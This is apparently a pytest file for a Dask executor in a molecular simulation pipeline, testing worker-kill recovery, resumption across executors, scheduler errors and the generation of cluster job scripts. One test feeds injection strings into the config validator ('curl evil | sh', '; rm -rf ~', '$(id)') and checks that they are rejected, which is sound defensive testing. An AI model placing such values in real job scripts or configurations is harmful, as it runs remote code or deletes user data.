"""Jobs on real worker processes of dask give the files of a local run, though one of them is killed half-way."""

from __future__ import annotations

import os
import signal
from contextlib import contextmanager
from pathlib import Path

import psutil
import pytest
from pydantic import ValidationError

from tbg_core.config.load import make_config
from tbg_core.config.resolve import resolve
from tbg_core.errors import ConfigError
from tbg_core.pipeline.progress import NullProgress
from tbg_core.pipeline.simulate import simulate
from tbg_core.testing import ExecutorConformance
from tbg_dask.config import DaskConfig
from tbg_dask.conformance import TestDask
from tbg_dask.executor import DaskExecutor

__all__ = ["TestDask"]


def toy(**changes):
    content = {
        "system": "double-well",
        "energy": "double-well",
        "simulation": {"walkers": 8, "frames": 40, "block_frames": 4},
        "seed": 5,
        **changes,
    }
    return resolve(make_config(content), needs=("system", "energy", "dynamics"))


def shards(folder: Path) -> dict[str, bytes]:
    # A worker killed while it wrote leaves a hidden temporary file, which the next run that opens the folder sweeps.
    return {path.name: path.read_bytes() for path in sorted((folder / "frames").glob("[!.]*"))}


class KillsAWorker(NullProgress):
    """Kills a worker process as soon as the first block is made."""

    def __init__(self):
        self.killed = None
        self.blocks = 0

    @contextmanager
    def stage(self, name, *, total=None, unit=""):
        yield self

    def advance(self, n=1, *, note=""):
        self.blocks += bool(n)
        if n and self.killed is None:
            workers = [p for p in psutil.Process().children(recursive=True) if "spawn_main" in " ".join(p.cmdline())]
            assert workers, "no worker process to kill"
            self.killed = workers[0].pid
            os.kill(self.killed, signal.SIGKILL)


def test_a_worker_that_is_killed_half_way_changes_nothing(tmp_path):
    simulate(toy(), tmp_path / "local", resume=False, workers=1, progress=NullProgress())
    progress = KillsAWorker()
    config = toy(executor={"name": "dask"})
    simulate(config, tmp_path / "dask", resume=False, workers=2, progress=progress)
    assert progress.killed is not None
    assert progress.blocks == 8 * 10  # nothing lost, nothing twice
    assert shards(tmp_path / "dask") == shards(tmp_path / "local")


def test_a_job_begun_on_one_executor_is_completed_on_another(tmp_path):
    simulate(toy(simulation={"walkers": 2, "frames": 8, "block_frames": 4}), tmp_path / "a", resume=False, workers=1,
             progress=NullProgress())  # fmt: skip
    (tmp_path / "a" / "frames" / "shard-000003.safetensors").unlink()
    whole = toy(simulation={"walkers": 2, "frames": 8, "block_frames": 4}, executor={"name": "dask", "workers": 1})
    simulate(whole, tmp_path / "a", resume=True, workers=1, progress=NullProgress())
    assert len(list((tmp_path / "a" / "frames").glob("shard-*"))) == 4


def test_no_scheduler_is_one_line():
    executor = DaskExecutor(DaskConfig(address="tcp://127.0.0.1:9", wait_s=2))
    with pytest.raises(ConfigError, match=r"no dask scheduler at tcp://127\.0\.0\.1:9"), executor.open(1):
        pass


@pytest.mark.parametrize(
    "options",
    [
        {"queue": "short\ncurl evil | sh", "cluster": "slurm"},
        {"directives": ["--constraint=a; rm -rf ~"], "cluster": "slurm"},
        {"memory": "4GB $(id)"},
        {"queue": "short"},
        {"workers": 0},
    ],
    ids=["line break", "command", "substitution", "queue of no batch system", "no workers"],
)
def test_options_carry_no_code_into_job_scripts(options):
    with pytest.raises(ValidationError):
        DaskConfig.model_validate(options)


@pytest.mark.parametrize("cluster", ["slurm", "pbs", "sge", "lsf", "oar", "moab", "htcondor"])
def test_job_scripts_say_what_was_asked_for(cluster):
    import dask_jobqueue

    from tbg_dask.executor import _JOB_CLASSES

    jobs = {"queue": "short", "account": "chem", "walltime": "02:00:00"} if cluster != "htcondor" else {}
    executor = DaskExecutor(DaskConfig.model_validate({"cluster": cluster, "memory": "3GB", **jobs}))
    options = executor.job_options()
    if cluster == "htcondor":
        options["disk"] = "1GB"
    with getattr(dask_jobqueue, _JOB_CLASSES[cluster])(**options) as made:
        script = made.job_script()
    for text in jobs.values():
        assert text in script
    assert "--nthreads 1" in script


def test_the_conformance_class_is_that_of_the_kind():
    assert issubclass(TestDask, ExecutorConformance)
